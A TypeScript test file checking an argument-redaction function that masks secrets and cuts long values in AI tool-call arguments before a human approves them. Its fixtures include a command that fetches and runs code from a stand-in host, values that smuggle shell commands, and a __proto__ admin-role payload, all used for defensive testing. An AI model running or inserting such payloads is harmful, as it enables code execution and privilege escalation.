import { describe, expect, it } from 'vitest';
import { createToolRegistry, defineTool, type ToolApprovalRequest, type ToolPolicy } from '../index.js';
import { projectArguments } from './project-arguments.js';

describe('projectArguments', () => {
  it('shows a member named __proto__ as a member, never as the prototype', () => {
    const args = JSON.parse('{"id":7,"__proto__":{"role":"admin"}}') as unknown;
    const projected = projectArguments(args) as Record<string, unknown>;
    expect(Object.getPrototypeOf(projected)).toBe(Object.prototype);
    expect(Object.keys(projected)).toEqual(['id', '__proto__']);
    expect(JSON.stringify(projected)).toBe('{"id":7,"__proto__":{"role":"admin"}}');
  });

  it('masks a credential-named or secret member up to the first character that can carry code, and shows the rest', () => {
    const args = { api_key: 'k3y;touch${IFS}PWNED', Authorization: 'Bearer abc123$(id)', token: '$(curl evil.example|sh)', password: 'hunter2hunter2', login: 'pw12`id`', secret: 'k3y\ntouch PWNED', apiKey: 'k3y\u2028x=1' };
    expect(projectArguments(args, { secretKeys: new Set(['login']) })).toEqual({
      api_key: '[redacted];touch${IFS}PWNED',
      Authorization: 'Bearer [redacted]$(id)',
      token: '$(curl evil.example|sh)',
      password: '[redacted]',
      login: '[redacted]`id`',
      secret: '[redacted]\ntouch PWNED',
      apiKey: '[redacted]\u2028x=1',
    });
  });

  it('judges a member name the same every time it recurs, past any number of other names', () => {
    const token = `ghp_${'c'.repeat(36)}`;
    const args = { [token]: 'one', password: 'hunter2hunter2', path: 'notes/today.md', 'X-Api-Key': 12345678 };
    const expected = { '[redacted]': 'one', password: '[redacted]', path: 'notes/today.md', 'X-Api-Key': '[redacted]' };
    expect(projectArguments(args)).toEqual(expected);
    for (let round = 0; round < 3; round += 1) {
      // Thousands of other names in between: whatever is kept of them, the answers stay those of a fresh scan.
      projectArguments(Object.fromEntries(Array.from({ length: 2500 }, (_, index) => [`name${round}_${index}`, index])));
      expect(projectArguments(args)).toEqual(expected);
    }
  });

  it('tells of each value it cuts short: a long string, a list or an object past its bound, a level too deep', () => {
    let cut = 0;
    const onCut = (): void => {
      cut += 1;
    };
    const args = { text: 'x'.repeat(20), list: [1, 2, 3, 4], nest: { object: { a: 1, b: 2, c: 3, d: 4 }, deep: { a: { b: 1 } } } };
    expect(projectArguments(args, { maxString: 10, maxEntries: 3, maxDepth: 3, onCut })).toEqual({
      text: 'xxxxxxxxxx… [10 more characters]',
      list: [1, 2, 3, '[1 more items]'],
      nest: { object: { a: 1, b: 2, c: 3, '…': '[1 more keys]' }, deep: { a: '[nested]' } },
    });
    expect(cut).toBe(4);
    cut = 0;
    projectArguments({ short: 'ok', list: [1] }, { onCut });
    expect(cut).toBe(0);
  });

  it('keeps two keys that redact alike apart', () => {
    const first = `ghp_${'a'.repeat(36)}`;
    const second = `ghp_${'b'.repeat(36)}`;
    expect(projectArguments({ [first]: 'one', [second]: 'two' })).toEqual({ '[redacted]': 'one', '[redacted] (2)': 'two' });
  });

  it('masks what header-named and credential-named members hold, at any depth, whatever its shape', () => {
    const projected = projectArguments({
      url: 'https://api.example.com/v1/items?token=9f8e7d6c&page=2',
      headers: {
        Accept: 'application/json',
        Authorization: 'Bearer opaque-value-1',
        'Proxy-Authorization': 'opaque-value-2',
        Cookie: 'sid=opaque3; theme=dark',
        'Set-Cookie': 'sid=opaque4; Path=/; HttpOnly',
        'X-Api-Key': 'opaque-value-5',
        'x-auth-token': 'opaque6',
      },
      config: { password: 'correct-horse-battery-staple', passphrase_secret: 'correct horse battery', api_key: 'k', client_secret: 12345678, public_key: 'ssh-ed25519 AAAAC3Nza me@host', retries: 3 },
    });
    expect(projected).toEqual({
      url: 'https://api.example.com/v1/items?token=[redacted]&page=2',
      headers: {
        Accept: 'application/json',
        Authorization: 'Bearer [redacted]',
        'Proxy-Authorization': '[redacted]',
        Cookie: 'sid=[redacted]; theme=[redacted]',
        'Set-Cookie': 'sid=[redacted]; Path=/; HttpOnly',
        'X-Api-Key': '[redacted]',
        'x-auth-token': '[redacted]',
      },
      // A masked value is one word (a server may paste it into a command line unquoted): a passphrase shows its later words.
      // A public key names no secret, and shows: it is what decides who gets in.
      config: { password: '[redacted]', passphrase_secret: '[redacted] horse battery', api_key: '[redacted]', client_secret: '[redacted]', public_key: 'ssh-ed25519 AAAAC3Nza me@host', retries: 3 },
    });
  });

  it('leaves placeholders, and members whose names are credentials only in a query (key, session, auth, signature, pwd)', () => {
    const args = {
      token: '<your-token>',
      password: '********',
      secret: '',
      headers: { Authorization: 'Bearer ${TOKEN}' },
      key: 'Enter',
      session: 'main',
      auth: 'oauth',
      signature: 'fn(a: int): int',
      pwd: '/home/user/project',
    };
    expect(projectArguments(args)).toEqual(args);
  });

  it('shows the approver every argument the tool will get, __proto__ included', async () => {
    const seen: ToolApprovalRequest[] = [];
    const tool = defineTool({ name: 'update_user', description: 'Update a user.', input: { type: 'object', properties: { id: { type: 'number' } } }, dispatch: (args) => args });
    const asks: ToolPolicy = { version: 1, decideIdentity: () => ({ kind: 'allow', matched: [] }), decideArguments: () => ({ kind: 'ask', reason: 'rule', matched: [] }) };
    const registry = createToolRegistry({ tools: [tool], policy: asks });
    const outcome = await registry.dispatch(
      { callId: 'p', name: 'update_user', arguments: '{"id":7,"__proto__":{"role":"admin"}}' },
      { grantedTools: ['update_user'], approval: { confirm: (request) => (seen.push(request), Promise.resolve({ outcome: 'reject' })) } },
    );
    expect(outcome.ok).toBe(false);
    expect(JSON.stringify(seen[0]?.arguments)).toBe('{"id":7,"__proto__":{"role":"admin"}}');
  });
});
